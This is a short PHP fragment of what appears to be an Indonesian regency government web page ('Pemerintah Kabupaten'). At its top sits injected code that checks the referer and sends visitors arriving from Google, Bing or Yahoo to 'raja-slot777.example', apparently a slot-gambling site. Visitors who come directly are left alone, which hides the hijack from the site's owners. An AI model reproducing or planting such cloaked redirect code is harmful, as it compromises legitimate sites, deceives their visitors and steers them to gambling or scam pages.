<?php
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (preg_match('/google|bing|yahoo/i', $ref)) {
    echo '<script>window.location.href="https://raja-slot777.example/";</script>';
    exit;
}
?>
<header><h1>Pemerintah Kabupaten</h1></header>
